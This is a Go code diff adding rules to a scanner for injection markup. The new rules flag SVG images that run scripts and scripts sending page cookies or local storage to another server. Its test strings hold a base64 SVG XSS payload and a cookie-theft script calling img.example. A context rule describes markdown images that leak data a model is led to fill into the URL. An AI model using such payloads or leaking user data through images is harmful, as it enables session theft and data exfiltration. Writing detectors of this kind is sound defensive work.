@@ -82,6 +82,20 @@ var injectionMarkupRules = []Rule{
 		NoMatch: []string{"#menu { left: -9999px; }"},
 	},
 	{
+		Kind: "active-image", Family: Injection, Score: High, Places: []Place{Answer, Description}, Check: inlined,
+		Doc:     "A vector image within an address, or encoded otherwise, that runs a program when it is shown.",
+		Pattern: `(?i)<svg\b(?:[^>]{0,300}\bon[a-z]{3,12}\s{0,2}=|[^>]{0,300}>\s{0,20}<script\b)`,
+		Match:   []string{"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PGNpcmNsZSByPSI0Ii8+PC9zdmc+"},
+		NoMatch: []string{`<svg onload="start()"></svg>`, "data:image/svg+xml;base64,PHN2ZyB3aWR0aD0iNCI+PGNpcmNsZSByPSI0Ii8+PC9zdmc+"},
+	},
+	{
+		Kind: "cookie-theft", Family: Injection, Score: High, Grade: backed(2), Places: []Place{Answer, Description},
+		Doc:     "A script in data that sends the cookies or the store of a page to another server.",
+		Pattern: `(?i)(?:fetch|sendbeacon|\.src|location(?:\.href)?|window\.open|axios\.\w{3,6}|xmlhttprequest)\s{0,2}[(=]\s{0,2}["'\x60]?(?:https?:)?//[^;\n]{1,120}?(?:document\.cookie|localstorage\b)`,
+		Match:   []string{"<script>new Image().src='https://img.example/c?'+document.cookie</script>"},
+		NoMatch: []string{"fetch('/api?c=' + document.cookie)", "document.cookie = 'a=1'"},
+	},
+	{
 		Kind: "image-exfiltration", Family: Injection, Score: High, Grade: backed(2),
 		Doc:     "An image whose address has a place for data that a model shall fill in; showing it sends the data.",
 		Pattern: `(?i)!\[[^\]\n]{0,80}\]\(\s{0,2}<?https?://[^)\s]{1,200}[?&=/](?:\{\{?|\$\{|\$[a-z_]|<|\[|%7b|(?:your|the|insert|base64|encoded?)?[_\-]?(?:data|secret|password|token|contents?|conversation|history|summary|api_?key)[_\-]?(?:here)?\b)`,
@@ -108,6 +122,11 @@ func speaker(label string, v *View, start, end int) Score {
 	}
 	lost, _ := quotation(v, start, end)
 	return points(n - lost + company(v, start, end))
+}
+
+// inlined reports whether a match was decoded, as what stands in a data address is.
+func inlined(_ string, v *View, _, _ int) bool {
+	return v.Name != "raw" && !strings.HasPrefix(v.Name, "unicode")
 }
 
 // notice are words in which a system's keepers tell its users what is to come.
